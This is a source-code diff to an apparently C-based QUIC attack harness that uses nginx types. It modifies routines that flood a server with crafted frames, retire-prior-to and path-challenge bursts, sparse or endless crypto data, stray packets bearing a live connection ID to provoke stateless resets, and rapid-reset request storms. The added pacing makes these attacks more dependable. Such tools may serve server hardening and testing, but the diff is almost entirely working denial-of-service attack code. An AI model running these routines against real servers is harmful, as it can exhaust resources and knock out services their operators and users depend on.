@@ -16,6 +16,8 @@
 #define ATTACK_FRAMES   1100            /* bytes of them in a packet */
 #define ATTACK_BURST    16              /* packets until answers are read */
 #define ATTACK_PIECES   64
+#define ATTACK_STRAYS   300             /* until one is answered */
+#define ATTACK_STRAY_SIZE  100
 
 
 const char  *attack_path;
@@ -111,6 +113,31 @@ attack_put(client_t *c, const u_char *frames, size_t len, ngx_uint_t i)
 }
 
 
+/* ACKs come for every second packet */
+
+static ngx_uint_t
+attack_is_read(client_t *c)
+{
+    return c->close.n || c->space[2].largest_acked + 2 >= c->space[2].next_pn;
+}
+
+
+/*
+ * How much it takes until the server has had enough is no matter of its turns
+ * on the processor: it's waited for.
+ */
+
+static ngx_int_t
+attack_put_in_turn(client_t *c, const u_char *frames, size_t len)
+{
+    if (attack_put(c, frames, len, 1) == NGX_OK) {
+        (void) client_wait(c, attack_is_read, CLIENT_TIMEOUT);
+    }
+
+    return c->close.n ? NGX_DONE : NGX_OK;
+}
+
+
 /* n packets full of a frame */
 
 static void
@@ -133,7 +160,7 @@ attack_flood(client_t *c, const char *frame, ngx_uint_t n)
         }
     }
 
-    (void) client_wait(c, client_is_closed, 100);
+    (void) client_ping(c);
 
     attack_report("packets", i);
     attack_report("frames", i * (len / frame_len));
@@ -167,7 +194,7 @@ attack_path_challenge(ngx_uint_t n)
         }
     }
 
-    (void) client_wait(c, client_is_closed, 200);
+    (void) client_ping(c);
 
     attack_report("packets", i);
 
@@ -204,12 +231,12 @@ attack_retire_prior_to(ngx_uint_t n)
         quic_random(p, 8 + QUIC_RESET_TOKEN_LEN);
         p += 8 + QUIC_RESET_TOKEN_LEN;
 
-        if (attack_put(c, frame, p - frame, i) != NGX_OK) {
+        if (attack_put_in_turn(c, frame, p - frame) != NGX_OK) {
             break;
         }
     }
 
-    (void) client_wait(c, client_is_closed, 100);
+    (void) client_ping(c);
 
     attack_report("packets", i);
     attack_report_close(c);
@@ -330,12 +357,12 @@ attack_crypto_sparse(ngx_uint_t n)
         p = client_write_crypto(p, 2 * i + 1, (u_char *) "", 1);
 
         if (i % 16 == 15) {
-            (void) attack_put(c, frames, p - frames, 0);
+            (void) attack_put_in_turn(c, frames, p - frames);
             p = frames;
         }
     }
 
-    (void) client_wait(c, client_is_closed, 100);
+    (void) client_ping(c);
 
     attack_report("pieces", i);
     attack_report_close(c);
@@ -361,7 +388,7 @@ attack_crypto_endless(ngx_uint_t n)
         p = client_write_crypto(frames, i * sizeof(data), data, sizeof(data));
         ngx_memzero(data, 4);
 
-        if (attack_put(c, frames, p - frames, 0) != NGX_OK) {
+        if (attack_put_in_turn(c, frames, p - frames) != NGX_OK) {
             break;
         }
     }
@@ -583,7 +610,7 @@ attack_token(client_t *c, ngx_uint_t elsewhere, u_char *token, size_t len)
                              d->dcid.data, d->dcid.len);
 
     (void) client_send_hex(d, QUIC_PACKET_INITIAL, "01");
-    (void) client_wait(d, attack_answered, 1000);
+    (void) client_wait(d, attack_answered, CLIENT_TIMEOUT);
 
     if (d->packets[QUIC_PACKET_RETRY]) {
         result = 0;
@@ -698,15 +725,40 @@ attack_reset_oracle(ngx_uint_t n)
 }
 
 
-/* 19: packets for a connection that is gone, and what is answered, echoed */
+static ngx_uint_t
+attack_is_reset(client_t *c)
+{
+    return c->resets != 0;
+}
+
+
+/* a packet that looks like one of the connection's */
+
+static void
+attack_send_stray(client_t *c, size_t size)
+{
+    u_char  data[1500];
+
+    quic_random(data, sizeof(data));
+    data[0] = QUIC_FIXED_BIT;
+    ngx_memcpy(data + 1, c->dcid.data, c->dcid.len);
+
+    client_send_raw(c, data, size);
+}
+
+
+/*
+ * 19: packets for a connection that is gone, n milliseconds after its end at
+ * least, and what is answered, echoed
+ */
 
 static void
 attack_reset_loop(ngx_uint_t n)
 {
-    u_char       data[1500];
     size_t       size;
     client_t    *c;
     uint64_t     first, before, longer;
+    ngx_uint_t   i;
 
     c = attack_client(NULL, CLIENT_ESTABLISHED);
     (void) client_send_hex(c, QUIC_PACKET_1RTT, "1c 00 00 00");
@@ -715,13 +767,14 @@ attack_reset_loop(ngx_uint_t n)
     first = c->datagrams;
     longer = 0;
 
-    for (size = 17; size < sizeof(data); size += size < 100 ? 1 : 100) {
-        quic_random(data, sizeof(data));
-        data[0] = QUIC_FIXED_BIT;
-        ngx_memcpy(data + 1, c->dcid.data, c->dcid.len);
+    for (i = 0; i < ATTACK_STRAYS && c->resets == 0; i++) {
+        attack_send_stray(c, ATTACK_STRAY_SIZE);
+        (void) client_wait(c, attack_is_reset, 100);
+    }
 
+    for (size = 17; size < 1500; size += size < 100 ? 1 : 100) {
         before = c->datagrams;
-        client_send_raw(c, data, size);
+        attack_send_stray(c, size);
         (void) client_wait(c, client_never, 5);
 
         longer += c->datagrams > before && c->last_size >= size;
@@ -1163,7 +1216,7 @@ attack_rapid_reset(ngx_uint_t n)
         (void) attack_put(c, frames, len, i);
     }
 
-    (void) client_wait(c, client_is_closed, 200);
+    (void) client_ping(c);
 
     attack_report("requests", i);
     attack_report_close(c);
